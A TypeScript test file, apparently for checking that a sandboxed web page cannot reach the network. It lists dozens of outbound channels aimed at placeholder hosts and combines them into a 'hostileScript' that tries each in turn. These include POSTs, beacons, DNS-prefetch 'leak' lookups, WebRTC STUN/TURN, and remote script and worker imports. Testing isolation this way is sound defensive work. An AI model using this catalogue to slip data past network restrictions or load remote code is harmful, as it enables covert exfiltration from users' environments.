/** An address that is kept for documentation (RFC 5737), a name that exists, and what both are asked for. */
const address = '192.0.2.1'
const host = 'example.org'

/**
 * All the ways out of a page that we know of, each as a script for the page. None needs an answer: it is what the program
 * then does on the network that counts.
 */
export const probes: Readonly<Record<string, string>> = {
  'fetch an address': `fetch('http://${address}/fetch')`,
  'fetch a name': `fetch('https://${host}/fetch', { mode: 'no-cors' })`,
  'fetch that outlives the page': `fetch('https://${host}/alive', { method: 'POST', body: 'a', keepalive: true, mode: 'no-cors' })`,
  XMLHttpRequest: `const r = new XMLHttpRequest(); r.open('POST', 'http://${address}/xhr'); r.send('a')`,
  WebSocket: `new WebSocket('ws://${address}/ws')`,
  'WebSocket with TLS': `new WebSocket('wss://${host}/ws')`,
  EventSource: `new EventSource('https://${host}/events')`,
  beacon: `navigator.sendBeacon('https://${host}/beacon', 'a')`,
  image: `new Image().src = 'https://${host}/a.png'`,
  script: `add('script', { src: 'https://${host}/a.js' })`,
  'module script': `import('https://${host}/a.mjs')`,
  stylesheet: `add('link', { rel: 'stylesheet', href: 'https://${host}/a.css' })`,
  prefetch: `add('link', { rel: 'prefetch', href: 'https://${host}/prefetch' })`,
  preload: `add('link', { rel: 'preload', as: 'image', href: 'https://${host}/preload' })`,
  preconnect: `add('link', { rel: 'preconnect', href: 'https://${host}' }); add('link', { rel: 'preconnect', href: 'http://${address}' })`,
  'name looked up early': `add('link', { rel: 'dns-prefetch', href: 'https://leak.${host}' })`,
  icon: `add('link', { rel: 'icon', href: 'https://${host}/favicon.ico' })`,
  manifest: `add('link', { rel: 'manifest', href: 'https://${host}/manifest.json', crossOrigin: 'use-credentials' })`,
  frame: `add('iframe', { src: 'https://${host}/frame' })`,
  object: `add('object', { data: 'https://${host}/object' })`,
  video: `add('video', { src: 'https://${host}/a.mp4', autoplay: true })`,
  'track of a video': `const v = add('video', {}); const t = document.createElement('track'); t.src = 'https://${host}/a.vtt'; t.default = true; v.append(t)`,
  font: `new FontFace('leak', 'url(https://${host}/a.woff2)').load()`,
  'picture of a style': `document.body.style.backgroundImage = 'url(https://${host}/background.png)'`,
  'picture within SVG': `document.body.append(new DOMParser().parseFromString('<svg xmlns="http://www.w3.org/2000/svg"><image href="https://${host}/svg.png"/></svg>', 'image/svg+xml').documentElement)`,
  form: `const f = add('form', { action: 'https://${host}/form', method: 'post', target: '_blank' }); f.submit()`,
  'ping of a link': `const a = add('a', { href: '#', ping: 'https://${host}/ping' }); a.click()`,
  'new window': `window.open('https://${host}/window')`,
  'worker that imports': `new Worker(URL.createObjectURL(new Blob(["importScripts('https://${host}/worker.js')"])))`,
  'worker that fetches': `new Worker(URL.createObjectURL(new Blob(["fetch('http://${address}/worker')"])))`,
  'service worker': `navigator.serviceWorker.register('https://${host}/sw.js')`,
  'WebRTC by STUN': `rtc({ urls: 'stun:${address}:3478' })`,
  'WebRTC by STUN at a name': `rtc({ urls: 'stun:stun.${host}:3478' })`,
  'WebRTC by TURN over TCP': `rtc({ urls: 'turn:${address}:3478?transport=tcp', username: 'a', credential: 'a' })`,
  'WebTransport, which is QUIC': `new WebTransport('https://${host}:443/quic').ready`,
  'pages guessed ahead': `add('script', { type: 'speculationrules', text: JSON.stringify({ prerender: [{ source: 'list', urls: ['https://${host}/ahead'] }] }) })`,
  refresh: `add('meta', { httpEquiv: 'refresh', content: '0; url=https://${host}/refresh' })`,
  navigation: `location.assign('https://${host}/away')`,
}

/** Tries all probes in a page, one after the other, and gives how many were tried. */
export const hostileScript = `(async () => {
  const add = (name, properties) => {
    const element = Object.assign(document.createElement(name), properties)
    document.body.append(element)
    return element
  }
  const rtc = (server) => {
    const peer = new RTCPeerConnection({ iceServers: [server], iceCandidatePoolSize: 1 })
    peer.createDataChannel('leak')
    return peer.createOffer().then((offer) => peer.setLocalDescription(offer))
  }
  window.addEventListener('unhandledrejection', (event) => event.preventDefault())
  const tries = [${Object.values(probes)
    .map((probe) => `() => { ${probe} }`)
    .join(',\n')}]
  let tried = 0
  for (const attempt of tries) {
    try { attempt() } catch { /* refused at once */ }
    tried += 1
  }
  await new Promise((resolve) => setTimeout(resolve, 1500))
  return tried
})()`
